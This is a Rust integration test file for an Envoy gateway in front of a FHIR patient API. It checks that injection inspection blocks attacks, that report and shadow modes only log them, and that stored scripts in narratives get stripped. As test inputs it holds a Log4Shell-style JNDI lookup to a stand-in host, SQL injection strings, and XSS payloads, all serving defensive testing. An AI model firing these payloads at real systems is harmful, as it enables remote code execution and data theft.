//! Inspection on a real Envoy: attacks stop before the upstream, ordinary requests do not, and records name the rules.

use serde_json::{Value, json};

use crate::stage::{BILLING, Stage, clinic_with, physician};
use crate::support::client::PROTOCOLS;
use crate::support::config::Options;
use crate::support::message::{End, Request};
use crate::support::upstream::Reply;

fn stage(inspect: Value) -> Stage {
    let policy = clinic_with(|policy| policy["defaults"]["request"]["inspect"] = inspect);
    Stage::new(Options { policy, ..Options::default() })
}

fn patient(narrative: &str) -> Request {
    let body = json!({
        "resourceType": "Patient",
        "text": { "status": "generated", "div": narrative },
        "name": [{ "family": "O'Brien", "text": "says 'yes' or 'no'; 1/2 tab q6h -- max 4/day" }],
    });
    let request = Request::new("POST", "/fhir/Patient").bearer(&physician());
    request.header("content-type", "application/fhir+json").body(body.to_string())
}

const GOOD: &str = "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p style=\"color: red\">O'Brien</p></div>";

#[test]
fn attacks_stop_before_the_upstream_and_ordinary_requests_do_not() {
    let stage = stage(json!("standard"));
    stage.allows(&Request::get("/fhir/Patient/inspected-1").key(BILLING).header("x-note", "it's O'Brien"));
    stage.allows(&patient(GOOD));

    let attack = "/fhir/Patient/inspected-2?_format=json%27%20union%20select%201,2--";
    let header = Request::get("/fhir/Patient/inspected-3").key(BILLING).header("x-note", "${jndi:ldap://x.example/a}");
    let response = stage.refuses(&header, 403, "injection_found");
    let text = String::from_utf8_lossy(&response.body).into_owned();
    assert!(text.contains("template-lookup") && !text.contains("jndi"), "{text}");
    for record in stage.envoy.audit("/fhir/Patient/inspected-3", 2) {
        assert_eq!(record["reason"], "injection_found", "{record}");
        assert!(record["inspected"].as_array().is_some_and(|rules| rules.contains(&json!("template-lookup"))), "{record}");
        assert!(!record.to_string().contains("jndi"), "{record}");
    }
    // What the caller may not ask at all is refused for that.
    stage.refuses(&Request::get(attack), 401, "missing_credentials");

    stage.refuses(&patient("<div><script>alert(1)</script></div>"), 403, "injection_found");
    let form = Request::new("POST", "/fhir/Patient/_search").bearer(&physician());
    let form = form.header("content-type", "application/x-www-form-urlencoded").body("name=%27+or+%271%27=%271");
    stage.refuses(&form, 403, "injection_found");
}

#[test]
fn what_is_reported_goes_on_and_stands_in_the_record() {
    let stage = stage(json!({ "mode": "report" }));
    let path = "/fhir/Patient/reported-1";
    stage.allows(&Request::get(path).key(BILLING).header("x-note", "1 union select null,null--"));
    for record in stage.envoy.audit(path, 2) {
        assert_eq!((&record["decision"], &record["reason"]), (&json!("allow"), &json!("allowed")), "{record}");
        assert!(record["inspected"].as_array().is_some_and(|rules| rules.contains(&json!("sqli-union"))), "{record}");
    }
}

#[test]
fn in_shadow_an_attack_is_recorded_and_goes_on() {
    let policy = clinic_with(|policy| {
        policy["mode"] = json!("shadow");
        policy["defaults"]["request"]["inspect"] = json!("standard");
    });
    let stage = Stage::new(Options { policy, ..Options::default() });
    let path = "/fhir/Patient/shadowed-1";
    stage.allows(&Request::get(path).key(BILLING).header("x-note", "1 union select null,null--"));
    for record in stage.envoy.audit(path, 2) {
        assert_eq!((&record["decision"], &record["reason"]), (&json!("deny"), &json!("injection_found")), "{record}");
        assert!(record["inspected"].as_array().is_some_and(|rules| rules.contains(&json!("sqli-union"))), "{record}");
    }
}

/// An answer with this narrative, and so much behind it.
fn narrated(narrative: &str, more: usize) -> Reply {
    let entry = json!({ "resourceType": "Patient", "text": { "status": "generated", "div": narrative } });
    let fill = json!({ "resourceType": "Patient", "id": "x".repeat(64) });
    let entries: Vec<_> =
        std::iter::repeat_n(fill, more).chain([entry]).map(|resource| json!({ "resource": resource })).collect();
    let body = json!({ "resourceType": "Bundle", "type": "searchset", "entry": entries });
    Reply::new(200).header("content-type", "application/fhir+json").body(body.to_string())
}

#[test]
fn script_that_was_stored_does_not_leave() {
    const BAD: &str = "<div><img src='x' onerror='evil()'/></div>";
    let stage = |rule| {
        let policy = clinic_with(|policy| policy["defaults"]["response"]["narrative"] = json!(rule));
        Stage::new(Options { policy, ..Options::default() })
    };
    let strip = stage("strip");
    for (path, narrative, more) in
        [("/fhir/Patient/shown", GOOD, 0), ("/fhir/Patient/written-over", BAD, 0), ("/fhir/Patient/long", BAD, 5_000)]
    {
        strip.upstream.reply(path, narrated(narrative, more));
        for response in PROTOCOLS.map(|protocol| strip.send(protocol, &Request::get(path).bearer(&physician()))) {
            let text = response.text();
            assert_eq!(
                (response.status, response.end, response.all("content-security-policy")),
                (200, End::Whole, vec!["sandbox".to_owned()])
            );
            assert_eq!(
                (text.contains("O'Brien"), text.contains("not shown")),
                (narrative == GOOD, narrative == BAD),
                "{path}"
            );
            assert!(!text.contains("evil"), "{path}");
        }
    }
    let refuse = stage("refuse");
    for (path, more) in [("/fhir/Patient/refused", 0), ("/fhir/Patient/broken-off", 20_000)] {
        refuse.upstream.reply(path, narrated(BAD, more));
        for response in PROTOCOLS.map(|protocol| refuse.send(protocol, &Request::get(path).bearer(&physician()))) {
            let refused = response.status == 502 && response.reason() == "answer_narrative";
            assert!(refused || response.end == End::Cut, "{path} {}", response.status);
            assert!(!response.text().contains("evil"), "{path}");
        }
    }
}
